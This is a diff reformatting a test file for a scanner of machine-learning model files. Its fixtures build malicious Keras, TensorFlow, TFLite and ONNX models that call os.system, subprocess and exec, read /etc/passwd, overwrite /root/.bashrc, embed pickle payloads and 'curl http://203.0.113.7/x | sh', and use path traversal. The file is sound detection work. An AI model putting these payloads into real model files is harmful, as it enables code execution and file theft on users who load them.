@@ -1,8 +1,27 @@
 import { describe } from "vitest";
 import { concat, zeros } from "../builders/bytes.js";
-import { dataset, externalFiles, externalLink, fixedText, floats, group, hdf5, softLink, text } from "../builders/hdf5.js";
+import {
+  dataset,
+  externalFiles,
+  externalLink,
+  fixedText,
+  floats,
+  group,
+  hdf5,
+  softLink,
+  text,
+} from "../builders/hdf5.js";
 import { functionOf, lambda, layer, RUNS_OS, sequential } from "../builders/keras.js";
-import { onnxFunction, onnxGraph, onnxModel, onnxNode, graphAttribute, tensor, tensorAttribute, textAttribute } from "../builders/onnx.js";
+import {
+  graphAttribute,
+  onnxFunction,
+  onnxGraph,
+  onnxModel,
+  onnxNode,
+  tensor,
+  tensorAttribute,
+  textAttribute,
+} from "../builders/onnx.js";
 import * as p from "../builders/pickle.js";
 import { field, integer, message, tag, varint } from "../builders/protobuf.js";
 import { constant, fn, graph, metaGraph, node, savedModel } from "../builders/tensorflow.js";
@@ -38,7 +57,12 @@ describe("an attack by a Keras model", () => {
       layer("Bidirectional", { layer: layer("LSTM", { units: 1 }), backward_layer: LAMBDA }),
     ]),
     "a Lambda inside a nested Functional": sequential([
-      { module: "keras.src.models.functional", class_name: "Functional", config: { layers: [LAMBDA] }, registered_name: "Functional" },
+      {
+        module: "keras.src.models.functional",
+        class_name: "Functional",
+        config: { layers: [LAMBDA] },
+        registered_name: "Functional",
+      },
     ]),
     "a Lambda inside a preprocessing Pipeline": sequential([layer("Pipeline", { layers: [LAMBDA] })]),
     "a Lambda inside an RNN cell": sequential([layer("RNN", { cell: LAMBDA })]),
@@ -61,15 +85,14 @@ describe("an attack by a Keras model", () => {
     "a layer of the private namespace downloads": sequential([
       ref("keras.src.utils.file_utils", "get_file", { config: { fname: "x", origin: "http://203.0.113.7/x" } }),
     ]),
-    "safe mode is switched off by a layer": sequential([
-      ref("keras.config", "enable_unsafe_deserialization"),
-      LAMBDA,
-    ]),
+    "safe mode is switched off by a layer": sequential([ref("keras.config", "enable_unsafe_deserialization"), LAMBDA]),
     "safe mode is switched off under its old name": sequential([
       ref("keras.src.saving.serialization_lib", "enable_unsafe_deserialization"),
     ]),
     "a global attribute is set": sequential([
-      ref("keras.src.backend.common.global_state", "set_global_attribute", { config: { name: "safe_mode_saving", value: false } }),
+      ref("keras.src.backend.common.global_state", "set_global_attribute", {
+        config: { name: "safe_mode_saving", value: false },
+      }),
     ]),
     "another model is loaded": sequential([
       ref("keras.models", "load_model", { config: { filepath: "x.keras", safe_mode: false } }),
@@ -85,18 +108,38 @@ describe("an attack by a Keras model", () => {
     "IntegerLookup hides the path in a tuple": sequential([
       layer("IntegerLookup", { vocabulary: { class_name: "__tuple__", items: ["/etc/passwd"] } }),
     ]),
-    "idf_weights is a path": sequential([layer("TextVectorization", { idf_weights: "/etc/passwd", output_mode: "tf_idf" })]),
+    "idf_weights is a path": sequential([
+      layer("TextVectorization", { idf_weights: "/etc/passwd", output_mode: "tf_idf" }),
+    ]),
     "an initializer is a module's function": sequential([
-      layer("Dense", { units: 1, kernel_initializer: { module: "os", class_name: "system", config: { command: "id" }, registered_name: null } }),
+      layer("Dense", {
+        units: 1,
+        kernel_initializer: { module: "os", class_name: "system", config: { command: "id" }, registered_name: null },
+      }),
     ]),
     "an activation is a module's function": sequential([
-      layer("Dense", { units: 1, activation: { module: "builtins", class_name: "function", config: "exec", registered_name: "function" } }),
+      layer("Dense", {
+        units: 1,
+        activation: { module: "builtins", class_name: "function", config: "exec", registered_name: "function" },
+      }),
     ]),
     "a regularizer is a registered class of a module": sequential([
-      layer("Dense", { units: 1, kernel_regularizer: { module: "subprocess", class_name: "Popen", config: { args: ["id"] }, registered_name: "builtins>Popen" } }),
+      layer("Dense", {
+        units: 1,
+        kernel_regularizer: {
+          module: "subprocess",
+          class_name: "Popen",
+          config: { args: ["id"] },
+          registered_name: "builtins>Popen",
+        },
+      }),
     ]),
     "an inbound node carries arguments": sequential([
-      { ...ref("subprocess", "run"), config: { name: "x" }, inbound_nodes: [{ args: [["id"]], kwargs: { shell: true } }] },
+      {
+        ...ref("subprocess", "run"),
+        config: { name: "x" },
+        inbound_nodes: [{ args: [["id"]], kwargs: { shell: true } }],
+      },
     ]),
     "the loss of compile_config is a function": sequential([layer("Dense", { units: 1 })], {
       compile_config: { optimizer: "adam", loss: functionOf("os", "system"), metrics: [] },
@@ -108,30 +151,46 @@ describe("an attack by a Keras model", () => {
       { ...layer("Dense", { units: 1 }), build_config: { input_shape: ref("os", "system") } },
     ]),
     "a type specification is imported": sequential([
-      layer("InputLayer", { batch_shape: [null, 2], spec: { class_name: "__typespec__", spec_name: "os", module: "os", registered_name: "system", config: [] } }),
+      layer("InputLayer", {
+        batch_shape: [null, 2],
+        spec: { class_name: "__typespec__", spec_name: "os", module: "os", registered_name: "system", config: [] },
+      }),
     ]),
     "an array is a list of code": sequential([
-      layer("Dense", { units: { class_name: "__numpy__", config: { value: [{ class_name: "__lambda__", config: { code: RUNS_OS } }], dtype: "object" } } }),
+      layer("Dense", {
+        units: {
+          class_name: "__numpy__",
+          config: { value: [{ class_name: "__lambda__", config: { code: RUNS_OS } }], dtype: "object" },
+        },
+      }),
     ]),
     "a Lambda stands in metadata of its own": sequential([], { extra: { deep: [[{ x: LAMBDA }]] } }),
     "the Lambda is an old one": sequential([
-      { class_name: "Lambda", config: { name: "l", function: [RUNS_OS, null, null], function_type: "lambda", module: "x" } },
+      {
+        class_name: "Lambda",
+        config: { name: "l", function: [RUNS_OS, null, null], function_type: "lambda", module: "x" },
+      },
     ]),
     "the class name has blanks around it": sequential([{ ...LAMBDA, class_name: " Lambda " }]),
     "the class is registered under another name": sequential([
       { module: null, class_name: "Evil", config: {}, registered_name: "pkg>Lambda" },
     ]),
     "the class is taken from keras's private modules": sequential([
-      { module: "keras.src.layers.core.lambda_layer", class_name: "Lambda", config: { function: lambda(RUNS_OS) }, registered_name: "Lambda" },
+      {
+        module: "keras.src.layers.core.lambda_layer",
+        class_name: "Lambda",
+        config: { function: lambda(RUNS_OS) },
+        registered_name: "Lambda",
+      },
     ]),
     "a dotted class name walks": sequential([ref("keras", "src.utils.os.system")]),
-    "a callback runs": sequential([ref("keras.callbacks", "LambdaCallback", { config: { on_epoch_end: lambda(RUNS_OS) } })]),
+    "a callback runs": sequential([
+      ref("keras.callbacks", "LambdaCallback", { config: { on_epoch_end: lambda(RUNS_OS) } }),
+    ]),
     "an ops function saves a file": sequential([
       ref("keras.saving", "save_model", { config: { model: {}, filepath: "/root/.bashrc" } }),
     ]),
-    "an image loader reads a file": sequential([
-      ref("keras.utils", "load_img", { config: { path: "/etc/passwd" } }),
-    ]),
+    "an image loader reads a file": sequential([ref("keras.utils", "load_img", { config: { path: "/etc/passwd" } })]),
     "a TensorFlow op layer reads a file": sequential([
       layer("TFOpLambda", { name: "x", function: "io.read_file" }, { inbound_nodes: [["/etc/passwd", {}]] }),
     ]),
@@ -148,8 +207,7 @@ describe("an attack by a Keras model", () => {
     {
       hope: "the model is called config.json in an upper-case archive",
       name: "M.KERAS",
-      bytes: () =>
-        zip({ entries: [{ name: "CONFIG.JSON", data: JSON.stringify(sequential([LAMBDA])) }] }),
+      bytes: () => zip({ entries: [{ name: "CONFIG.JSON", data: JSON.stringify(sequential([LAMBDA])) }] }),
     },
     {
       hope: "a pickle is an asset",
@@ -169,7 +227,8 @@ describe("an attack by a Keras model", () => {
     {
       hope: "the weights lie in another file",
       name: "m.weights.h5",
-      bytes: () => hdf5(group({ w: dataset(floats(25), { messages: (file) => [externalFiles(file, "/etc/passwd")] }) })),
+      bytes: () =>
+        hdf5(group({ w: dataset(floats(25), { messages: (file) => [externalFiles(file, "/etc/passwd")] }) })),
     },
     {
       hope: "an HDF5 model has another ending",
@@ -209,7 +268,10 @@ describe("an attack by a Keras model", () => {
       bytes: () =>
         zip({
           entries: [
-            { name: "metadata.json", data: JSON.stringify({ keras_version: "3.0.0", module: "os", class_name: "system", config: "id" }) },
+            {
+              name: "metadata.json",
+              data: JSON.stringify({ keras_version: "3.0.0", module: "os", class_name: "system", config: "id" }),
+            },
             { name: "config.json", data: JSON.stringify(sequential([])) },
           ],
         }),
@@ -243,7 +305,13 @@ describe("an attack by a Keras model", () => {
           format: "graph-model",
           modelTopology: {
             node: [
-              { name: "c", op: "Const", attr: { value: { tensor: { dtype: "DT_STRING", stringVal: [Buffer.from("/etc/passwd").toString("base64")] } } } },
+              {
+                name: "c",
+                op: "Const",
+                attr: {
+                  value: { tensor: { dtype: "DT_STRING", stringVal: [Buffer.from("/etc/passwd").toString("base64")] } },
+                },
+              },
               { name: "r", op: "ReadFile", input: ["c"] },
             ],
           },
@@ -257,12 +325,34 @@ describe("an attack by a TensorFlow graph", () => {
   const path = constant("path", "/root/.bashrc");
   const content = constant("content", "curl x|sh");
   const write = node("WriteFile", { inputs: ["path", "content"] });
-  const inFunction = fn("f", { nodes: [path, content, node("WriteFile", { inputs: ["path:output:0", "content:output:0"] })] });
+  const inFunction = fn("f", {
+    nodes: [path, content, node("WriteFile", { inputs: ["path:output:0", "content:output:0"] })],
+  });
   failing([
-    { hope: "a graph is called weights.bin", name: "weights.bin", bytes: () => graph({ nodes: [path, content, write] }), least: "high" },
-    { hope: "a graph has no ending", name: "frozen", bytes: () => graph({ nodes: [path, content, write] }), least: "high" },
-    { hope: "only a function writes", name: "saved_model.pb", bytes: () => savedModel({ functions: [inFunction] }), least: "high" },
-    { hope: "the second MetaGraph writes", name: "saved_model.pb", bytes: () => savedModel({}, { tags: "other", nodes: [path, content, write] }), least: "high" },
+    {
+      hope: "a graph is called weights.bin",
+      name: "weights.bin",
+      bytes: () => graph({ nodes: [path, content, write] }),
+      least: "high",
+    },
+    {
+      hope: "a graph has no ending",
+      name: "frozen",
+      bytes: () => graph({ nodes: [path, content, write] }),
+      least: "high",
+    },
+    {
+      hope: "only a function writes",
+      name: "saved_model.pb",
+      bytes: () => savedModel({ functions: [inFunction] }),
+      least: "high",
+    },
+    {
+      hope: "the second MetaGraph writes",
+      name: "saved_model.pb",
+      bytes: () => savedModel({}, { tags: "other", nodes: [path, content, write] }),
+      least: "high",
+    },
     {
       hope: "unknown fields stand before the graph",
       name: "saved_model.pb",
@@ -289,7 +379,14 @@ describe("an attack by a TensorFlow graph", () => {
     {
       hope: "the name of the op comes in two halves, of which the last counts",
       name: "saved_model.pb",
-      bytes: () => savedModel({ nodes: [path, content, concat(node("NoOp", { name: "w", inputs: ["path", "content"] }), field(2, "WriteFile"))] }),
+      bytes: () =>
+        savedModel({
+          nodes: [
+            path,
+            content,
+            concat(node("NoOp", { name: "w", inputs: ["path", "content"] }), field(2, "WriteFile")),
+          ],
+        }),
       least: "high",
     },
     {
@@ -309,7 +406,10 @@ describe("an attack by a TensorFlow graph", () => {
     {
       hope: "Python is called by a custom gradient",
       name: "saved_model.pb",
-      bytes: () => savedModel({ functions: [fn("g", { nodes: [node("EagerPyFunc", { attributes: { token: field(2, "pyfunc_0") } })] })] }),
+      bytes: () =>
+        savedModel({
+          functions: [fn("g", { nodes: [node("EagerPyFunc", { attributes: { token: field(2, "pyfunc_0") } })] })],
+        }),
       least: "high",
     },
     {
@@ -325,17 +425,25 @@ describe("an attack by a TensorFlow graph", () => {
     {
       hope: "a summary is written to an address",
       name: "saved_model.pb",
-      bytes: () => savedModel({ nodes: [constant("d", "/root/.ssh"), node("CreateSummaryFileWriter", { inputs: ["w", "d"] })] }),
+      bytes: () =>
+        savedModel({ nodes: [constant("d", "/root/.ssh"), node("CreateSummaryFileWriter", { inputs: ["w", "d"] })] }),
     },
     {
       hope: "text printing goes to a file",
       name: "saved_model.pb",
-      bytes: () => savedModel({ nodes: [content, node("PrintV2", { inputs: ["content"], attributes: { output_stream: field(2, "file:///root/.bashrc") } })] }),
+      bytes: () =>
+        savedModel({
+          nodes: [
+            content,
+            node("PrintV2", { inputs: ["content"], attributes: { output_stream: field(2, "file:///root/.bashrc") } }),
+          ],
+        }),
     },
     {
       hope: "a text graph is called model.txt",
       name: "model.txt",
-      bytes: () => 'node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/root/.bashrc" } } } }\nnode { name: "w" op: "WriteFile" input: "p" input: "p" }\n',
+      bytes: () =>
+        'node { name: "p" op: "Const" attr { key: "value" value { tensor { dtype: DT_STRING string_val: "/root/.bashrc" } } } }\nnode { name: "w" op: "WriteFile" input: "p" input: "p" }\n',
     },
     {
       hope: "a checkpoint state points elsewhere",
@@ -345,7 +453,14 @@ describe("an attack by a TensorFlow graph", () => {
     {
       hope: "a Lambda hides in the metadata of Keras",
       name: "keras_metadata.pb",
-      bytes: () => field(1, integer(2, 0), field(3, "root"), field(4, "_tf_keras_model"), field(5, JSON.stringify(sequential([LAMBDA])))),
+      bytes: () =>
+        field(
+          1,
+          integer(2, 0),
+          field(3, "root"),
+          field(4, "_tf_keras_model"),
+          field(5, JSON.stringify(sequential([LAMBDA]))),
+        ),
       least: "high",
     },
     {
@@ -376,7 +491,11 @@ describe("an attack by a TensorFlow graph", () => {
     {
       hope: "TFLite has a pickle in a buffer",
       name: "m.tflite",
-      bytes: () => tflite({ tensors: [{ name: "w", shape: [40], type: 3, buffer: 1 }], buffers: [concat(p.osSystem(), zeros(8))] }),
+      bytes: () =>
+        tflite({
+          tensors: [{ name: "w", shape: [40], type: 3, buffer: 1 }],
+          buffers: [concat(p.osSystem(), zeros(8))],
+        }),
     },
     {
       hope: "TFLite's buffer lies outside",
@@ -394,7 +513,12 @@ describe("an attack by a TensorFlow graph", () => {
         }),
       least: "high",
     },
-    { hope: "TFLite has a custom operator of nobody", name: "m.tflite", bytes: () => tflite({ custom: [{ name: "EvilOp" }] }), least: "low" },
+    {
+      hope: "TFLite has a custom operator of nobody",
+      name: "m.tflite",
+      bytes: () => tflite({ custom: [{ name: "EvilOp" }] }),
+      least: "low",
+    },
   ]);
 });
 
@@ -403,32 +527,79 @@ describe("an attack by an ONNX graph", () => {
   const inAttribute = onnxNode("Constant", { attributes: { value: tensorAttribute(outside) } });
   failing(
     [
-      { hope: "the location has backslashes", bytes: () => onnxModel({ tensors: [tensor({ external: { location: "..\\..\\etc\\passwd" } })] }) },
-      { hope: "the location is an absolute path", bytes: () => onnxModel({ tensors: [tensor({ external: { location: "/etc/passwd" } })] }) },
-      { hope: "the location is an address", bytes: () => onnxModel({ tensors: [tensor({ external: { location: "file:///etc/passwd" } })] }) },
-      { hope: "the location goes in before it goes out", bytes: () => onnxModel({ tensors: [tensor({ external: { location: "a/../../b" } })] }) },
-      { hope: "the location has a NUL", bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin\0/../../x" } })] }) },
+      {
+        hope: "the location has backslashes",
+        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "..\\..\\etc\\passwd" } })] }),
+      },
+      {
+        hope: "the location is an absolute path",
+        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "/etc/passwd" } })] }),
+      },
+      {
+        hope: "the location is an address",
+        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "file:///etc/passwd" } })] }),
+      },
+      {
+        hope: "the location goes in before it goes out",
+        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "a/../../b" } })] }),
+      },
+      {
+        hope: "the location has a NUL",
+        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin\0/../../x" } })] }),
+      },
       {
         hope: "the location is given twice and the last counts",
-        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin" }, more: [field(13, field(1, "location"), field(2, "/etc/passwd"))] })] }),
+        bytes: () =>
+          onnxModel({
+            tensors: [
+              tensor({
+                external: { location: "w.bin" },
+                more: [field(13, field(1, "location"), field(2, "/etc/passwd"))],
+              }),
+            ],
+          }),
       },
       {
         hope: "the value of one entry is given twice",
-        bytes: () => onnxModel({ tensors: [tensor({ external: {}, more: [field(13, field(1, "location"), field(2, "w.bin"), field(2, "/etc/passwd"))] })] }),
+        bytes: () =>
+          onnxModel({
+            tensors: [
+              tensor({
+                external: {},
+                more: [field(13, field(1, "location"), field(2, "w.bin"), field(2, "/etc/passwd"))],
+              }),
+            ],
+          }),
       },
       { hope: "an attribute's tensor lies outside", bytes: () => onnxModel({ nodes: [inAttribute] }) },
       {
         hope: "the branch of an If holds it",
-        bytes: () => onnxModel({ nodes: [onnxNode("If", { attributes: { then_branch: graphAttribute(onnxGraph({ tensors: [outside] })) } })] }),
+        bytes: () =>
+          onnxModel({
+            nodes: [onnxNode("If", { attributes: { then_branch: graphAttribute(onnxGraph({ tensors: [outside] })) } })],
+          }),
       },
-      { hope: "a function's body holds it", bytes: () => onnxModel({ functions: [onnxFunction("F", "local", inAttribute)] }) },
-      { hope: "the training info holds it", bytes: () => onnxModel({ modelFields: [field(20, field(1, onnxGraph({ tensors: [outside] })))] }) },
-      { hope: "the algorithm of the training info holds it", bytes: () => onnxModel({ modelFields: [field(20, field(2, onnxGraph({ tensors: [outside] })))] }) },
+      {
+        hope: "a function's body holds it",
+        bytes: () => onnxModel({ functions: [onnxFunction("F", "local", inAttribute)] }),
+      },
+      {
+        hope: "the training info holds it",
+        bytes: () => onnxModel({ modelFields: [field(20, field(1, onnxGraph({ tensors: [outside] })))] }),
+      },
+      {
+        hope: "the algorithm of the training info holds it",
+        bytes: () => onnxModel({ modelFields: [field(20, field(2, onnxGraph({ tensors: [outside] })))] }),
+      },
       { hope: "a sparse initializer holds it", bytes: () => onnxModel({ more: [field(15, field(1, outside))] }) },
-      { hope: "the indices of a sparse initializer hold it", bytes: () => onnxModel({ more: [field(15, field(2, outside))] }) },
+      {
+        hope: "the indices of a sparse initializer hold it",
+        bytes: () => onnxModel({ more: [field(15, field(2, outside))] }),
+      },
       {
         hope: "a sparse attribute holds it",
-        bytes: () => onnxModel({ nodes: [onnxNode("Constant", { attributes: { sparse_value: field(22, field(1, outside)) } })] }),
+        bytes: () =>
+          onnxModel({ nodes: [onnxNode("Constant", { attributes: { sparse_value: field(22, field(1, outside)) } })] }),
       },
       {
         hope: "a list of tensors in an attribute holds it",
@@ -436,35 +607,90 @@ describe("an attack by an ONNX graph", () => {
       },
       {
         hope: "a list of graphs in an attribute holds it",
-        bytes: () => onnxModel({ nodes: [onnxNode("X", { attributes: { gs: field(11, onnxGraph({ tensors: [outside] })) } })] }),
+        bytes: () =>
+          onnxModel({ nodes: [onnxNode("X", { attributes: { gs: field(11, onnxGraph({ tensors: [outside] })) } })] }),
       },
-      { hope: "the graph comes twice and is merged", bytes: () => concat(onnxModel(), field(7, onnxGraph({ tensors: [outside] }))) },
+      {
+        hope: "the graph comes twice and is merged",
+        bytes: () => concat(onnxModel(), field(7, onnxGraph({ tensors: [outside] }))),
+      },
       {
         hope: "the attribute's tensor comes twice and is merged",
-        bytes: () => onnxModel({ nodes: [onnxNode("Constant", { attributes: { value: concat(tensorAttribute(tensor({ name: "a" })), tensorAttribute(outside)) } })] }),
+        bytes: () =>
+          onnxModel({
+            nodes: [
+              onnxNode("Constant", {
+                attributes: { value: concat(tensorAttribute(tensor({ name: "a" })), tensorAttribute(outside)) },
+              }),
+            ],
+          }),
       },
-      { hope: "an operator is of nobody's domain", bytes: () => onnxModel({ nodes: [onnxNode("Evil", { domain: "evil.example" })] }) },
-      { hope: "an operator runs Python", bytes: () => onnxModel({ nodes: [onnxNode("PyOp", { domain: "com.microsoft" })] }) },
-      { hope: "an extension operator runs Python", bytes: () => onnxModel({ nodes: [onnxNode("PyCustomOpDef", { domain: "ai.onnx.contrib" })] }) },
+      {
+        hope: "an operator is of nobody's domain",
+        bytes: () => onnxModel({ nodes: [onnxNode("Evil", { domain: "evil.example" })] }),
+      },
+      {
+        hope: "an operator runs Python",
+        bytes: () => onnxModel({ nodes: [onnxNode("PyOp", { domain: "com.microsoft" })] }),
+      },
+      {
+        hope: "an extension operator runs Python",
+        bytes: () => onnxModel({ nodes: [onnxNode("PyCustomOpDef", { domain: "ai.onnx.contrib" })] }),
+      },
       {
         hope: "a function of the standard domain replaces an operator",
         bytes: () => onnxModel({ functions: [onnxFunction("Relu", "", onnxNode("Evil", { domain: "evil.example" }))] }),
       },
       {
         hope: "the context of an execution provider is a path",
-        bytes: () => onnxModel({ nodes: [onnxNode("EPContext", { domain: "com.microsoft", attributes: { ep_cache_context: textAttribute("/tmp/evil.bin"), embed_mode: integer(3, 0) } })] }),
+        bytes: () =>
+          onnxModel({
+            nodes: [
+              onnxNode("EPContext", {
+                domain: "com.microsoft",
+                attributes: { ep_cache_context: textAttribute("/tmp/evil.bin"), embed_mode: integer(3, 0) },
+              }),
+            ],
+          }),
       },
-      { hope: "a command stands in the metadata", bytes: () => onnxModel({ properties: { note: "curl http://203.0.113.7/x | sh" } }) },
-      { hope: "a pickle in base64 stands in the metadata", bytes: () => onnxModel({ properties: { state: Buffer.from(p.osSystem()).toString("base64") } }) },
-      { hope: "a pickle is a tensor", bytes: () => onnxModel({ tensors: [tensor({ raw: concat(p.osSystem(), zeros(8)) })] }) },
+      {
+        hope: "a command stands in the metadata",
+        bytes: () => onnxModel({ properties: { note: "curl http://203.0.113.7/x | sh" } }),
+      },
+      {
+        hope: "a pickle in base64 stands in the metadata",
+        bytes: () => onnxModel({ properties: { state: Buffer.from(p.osSystem()).toString("base64") } }),
+      },
+      {
+        hope: "a pickle is a tensor",
+        bytes: () => onnxModel({ tensors: [tensor({ raw: concat(p.osSystem(), zeros(8)) })] }),
+      },
       { hope: "a pickle follows the model", bytes: () => concat(onnxModel(), p.osSystem()) },
       { hope: "a pickle is an unknown field", bytes: () => concat(onnxModel(), field(500, p.osSystem())) },
       { hope: "the model is called weights.bin", name: "weights.bin", bytes: () => onnxModel({ tensors: [outside] }) },
-      { hope: "the model is text", name: "m.onnx.txt", bytes: () => 'ir_version: 8\ngraph { initializer { name: "w" data_location: EXTERNAL external_data { key: "location" value: "../../etc/passwd" } } }\n' },
-      { hope: "the model lies in an archive", name: "m.zip", bytes: () => zip({ entries: [{ name: "m.onnx", data: onnxModel({ tensors: [outside] }) }] }) },
-      { hope: "the offset of the data is negative", bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin", offset: "-1" } })] }) },
-      { hope: "a key of the external data is a Python attribute", bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin", __class__: "x" } })] }) },
-      { hope: "a tensor is absurdly large", bytes: () => onnxModel({ tensors: [tensor({ dims: [1n << 40n, 1n << 40n], raw: zeros(8) })] }) },
+      {
+        hope: "the model is text",
+        name: "m.onnx.txt",
+        bytes: () =>
+          'ir_version: 8\ngraph { initializer { name: "w" data_location: EXTERNAL external_data { key: "location" value: "../../etc/passwd" } } }\n',
+      },
+      {
+        hope: "the model lies in an archive",
+        name: "m.zip",
+        bytes: () => zip({ entries: [{ name: "m.onnx", data: onnxModel({ tensors: [outside] }) }] }),
+      },
+      {
+        hope: "the offset of the data is negative",
+        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin", offset: "-1" } })] }),
+      },
+      {
+        hope: "a key of the external data is a Python attribute",
+        bytes: () => onnxModel({ tensors: [tensor({ external: { location: "w.bin", __class__: "x" } })] }),
+      },
+      {
+        hope: "a tensor is absurdly large",
+        bytes: () => onnxModel({ tensors: [tensor({ dims: [1n << 40n, 1n << 40n], raw: zeros(8) })] }),
+      },
       {
         hope: "group fields hide the rest from a reader that stops",
         bytes: () => concat(tag(90, 3), integer(1, 1), tag(90, 4), onnxModel({ tensors: [outside] })),
